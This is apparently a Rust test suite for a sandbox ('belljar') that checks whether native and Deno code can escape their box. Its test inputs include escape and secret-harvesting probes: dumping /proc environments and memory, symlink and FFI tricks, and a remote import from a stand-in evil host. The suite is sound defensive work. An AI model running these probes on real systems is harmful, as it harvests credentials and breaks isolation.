//! Native code in the box of a code-mode program, without the restrictions of the JavaScript engine.

use std::path::Path;

use belljar_testkit::Program;
use serde_json::json;

use super::*;

/// Starts an MCP server for a workspace that contains the probe program.
fn server_with_probe(lab: &Lab) -> (PathBuf, Mcp) {
    let probe = lab.workspace().join("probe");
    lab.belljar(["doctor", "--write-probe"]).arg(&probe).run().expect(0);
    let mcp = lab.belljar(["mcp", "--workspace"]).arg(lab.workspace());
    let mcp = Mcp::start(mcp.env("CANARY_OF_THE_SERVER", "in its environment"));
    (probe, mcp)
}

#[test]
fn f01_native_code_cannot_reach_host_files_processes_or_upstreams() {
    let (lab, upstream) = lab_with_api(echo);
    let (file, secret) = host_file(&lab);
    let (probe, mcp) = server_with_probe(&lab);
    let state = lab.state().display().to_string();
    let pid = mcp.pid().to_string();
    let direct = upstream.address().to_string();
    let file = file.display().to_string();
    // Each of these operations succeeds outside of a box.
    let operations: [&[&str]; 5] = [
        &["read", &file],
        &["list", &state],
        &["connect-tcp", &direct],
        &["kill", &pid, "0"],
        &["stat", &file],
    ];
    let probe_in_box = |arguments: &[&str]| {
        let mut all = vec!["/workspace/probe"];
        all.extend(arguments);
        run_command(&mcp, &all)["stdout"].as_str().unwrap_or_default().trim_end().to_owned()
    };
    for arguments in operations {
        let outside = Program::new(&probe).args(arguments).run();
        assert!(outside.out().starts_with("ok"), "control: {arguments:?}: {}", outside.out());
        let inside = probe_in_box(arguments);
        let refused = inside.starts_with("errno") || inside.starts_with("killed");
        assert!(refused, "{arguments:?}: {inside}");
    }
    // The box has no data of the server, and only the placeholder of the secret.
    let environment = run_command(&mcp, &["env"])["stdout"].as_str().unwrap_or_default().to_owned();
    assert!(environment.contains("TOKEN=ghp_"), "control: {environment}");
    let everything = "cat /proc/*/environ /proc/*/cmdline /proc/*/maps 2>/dev/null | tr '\\0' '\\n'; \
                      find / -xdev -name 'canary.txt' -o -xdev -name '*.sock' 2>/dev/null; ls -la /proc/*/fd 2>/dev/null; \
                      grep -rl canary /tmp /workspace /home /root /run /var/tmp 2>/dev/null; true";
    let seen = run_command(&mcp, &["sh", "-c", everything])["stdout"]
        .as_str()
        .unwrap_or_default()
        .to_owned();
    let seen = format!("{environment}{seen}");
    for never in [SECRET_VALUE, secret.as_str(), "in its environment", &file, &state] {
        assert!(!seen.contains(never), "{never} in {seen}");
    }
    let pids = probe_in_box(&["pids"]);
    assert!(pids.starts_with("ok") && pids.split_whitespace().count() < 8, "{pids}");
    assert!(upstream.received().is_empty(), "no request bypassed the broker");
    // Through the broker, native code gets what a JavaScript program gets.
    let fetched = run_command(
        &mcp,
        &[
            "sh",
            "-c",
            "curl -sS -H \"authorization: Bearer $TOKEN\" https://api.example.com/; curl -sS https://other.example.com/; echo $?",
        ],
    );
    let fetched = fetched["stdout"].as_str().unwrap_or_default();
    assert!(fetched.contains("[belljar:token]") && !fetched.contains(SECRET_VALUE), "{fetched}");
    assert!(fetched.trim_end().ends_with('6'), "{fetched}");
    assert_eq!(upstream.received().len(), 1);
}

#[test]
fn f01_native_code_cannot_read_files_of_another_mcp_session() {
    let lab = lab();
    let (one, two) = (Mcp::start(lab.belljar(["mcp"])), Mcp::start(lab.belljar(["mcp"])));
    let write =
        "echo of-the-first > /workspace/mark; echo of-the-first > /tmp/mark; cat /workspace/mark";
    assert_eq!(run_command(&one, &["sh", "-c", write])["stdout"], "of-the-first\n");
    assert_eq!(
        run_command(&one, &["cat", "/workspace/mark"])["stdout"],
        "of-the-first\n",
        "control: the session reads its own file"
    );
    let inspect = "cat /workspace/mark /tmp/mark; ls -A /workspace /tmp; find / -xdev -name mark 2>/dev/null; true";
    for (mcp, is_visible) in [(&two, false), (&one, true)] {
        let seen = run_command(mcp, &["sh", "-c", inspect]);
        assert_eq!(
            seen["stdout"].as_str().unwrap().contains("of-the-first"),
            is_visible,
            "{seen:#}"
        );
        assert!(!seen["stdout"].as_str().unwrap().contains("/tmp/mark"), "{seen:#}");
    }
}

/// Returns the directory where `cargo xtask test` installed the clients.
fn clients_dir() -> PathBuf {
    let target = Path::new(env!("CARGO_TARGET_TMPDIR")).parent().expect("a target directory");
    let dir = target.join("clients");
    assert!(dir.is_dir(), "no {}: `cargo xtask test` installs it", dir.display());
    dir
}

#[test]
fn f02_deno_with_all_permissions_is_confined_by_the_box() {
    let (lab, upstream) = lab_with_api(echo);
    let (file, secret) = host_file(&lab);
    let config = lab.home().join(".config/belljar/belljar.toml");
    let mut text = std::fs::read_to_string(&config).unwrap();
    text.push_str(&format!(
        "\n[code]\ntemplate = \"deno\"\n[template.deno]\nnet = \"restricted\"\nmounts = [\"{}:/opt/clients:ro\"]\n\
         memory = \"2GiB\"\n",
        clients_dir().display()
    ));
    std::fs::write(&config, text).unwrap();
    let script = format!(
        r#"
const results = {{}};
const tries = async (name, act) => {{ try {{ results[name] = await act(); }} catch (error) {{ results[name] = "refused: " + error.name; }} }};
Deno.writeTextFileSync("/tmp/mine", "mine");
await tries("control", () => Deno.readTextFile("/tmp/mine"));
await tries("file", () => Deno.readTextFile({file:?}));
Deno.symlinkSync({file:?}, "/tmp/link");
await tries("link", () => Deno.readTextFile("/tmp/link"));
await tries("environ", () => Deno.readTextFile("/proc/self/environ"));
await tries("parent", () => Deno.readTextFile("/proc/1/environ"));
await tries("mem", () => {{ const f = Deno.openSync("/proc/1/mem"); f.seekSync(0x400000, 0); return f.readSync(new Uint8Array(8)); }});
await tries("worker", () => new Promise((yes) => {{
  const source = "self.postMessage([...Deno.readDirSync('/')].map((it) => it.name).join())";
  new Worker("data:application/javascript," + encodeURIComponent(source), {{ type: "module" }}).onmessage = (e) => yes(e.data);
}}));
await tries("import", () => import("https://evil.example.com/x.js"));
await tries("allowed", async () => (await fetch("https://api.example.com/x")).status);
await tries("direct", async () => {{ const c = await Deno.connect({{ hostname: "127.0.0.1", port: {port} }}); c.close(); return "connected"; }});
await tries("ffi", () => {{
  const c = Deno.dlopen("libc.so.6", {{ getuid: {{ parameters: [], result: "u32" }}, unshare: {{ parameters: ["i32"], result: "i32" }} }});
  return [c.symbols.getuid() >= 0, c.symbols.unshare(0x10000000)];
}});
await tries("sh", () => new TextDecoder().decode(new Deno.Command("cat", {{ args: [{file:?}] }}).outputSync().stdout));
console.log(JSON.stringify(results));
Deno.exit(0);
"#,
        file = file.display().to_string(),
        port = upstream.address().port(),
    );
    let mcp = Mcp::start(lab.belljar(["mcp"]).env("CANARY_OF_THE_SERVER", "in its environment"));
    mcp.call("write_file", &json!({ "path": "/workspace/try.ts", "content": script }));
    let line = "DENO_DIR=/tmp/.deno DENO_NO_UPDATE_CHECK=1 /opt/clients/npm/node_modules/.bin/deno run -A --no-lock --quiet try.ts";
    let response = run_command(&mcp, &["sh", "-c", line]);
    let results: Value =
        serde_json::from_str(response["stdout"].as_str().unwrap_or_default().trim())
            .unwrap_or_else(|error| panic!("{error}: {response:#}"));
    assert_eq!(
        (&results["control"], &results["allowed"]),
        (&json!("mine"), &json!(200)),
        "{results:#}"
    );
    let refused = |name: &str| results[name].as_str().is_some_and(|it| it.starts_with("refused"));
    for name in ["file", "link", "mem", "import", "direct"] {
        assert!(refused(name), "{name}: {results:#}");
    }
    // Workers and the C library work, but they reach only what the box contains.
    assert!(results["worker"].as_str().is_some_and(|it| it.contains("workspace")), "{results:#}");
    assert_eq!(results["ffi"], json!([true, -1]), "{results:#}");
    assert_eq!(results["sh"], "", "{results:#}");
    let all = results.to_string();
    for never in [SECRET_VALUE, secret.as_str(), "in its environment"] {
        assert!(!all.contains(never), "{never} in {results:#}");
    }
    assert!(upstream.received().iter().all(|it| it.path == "/x"));
}
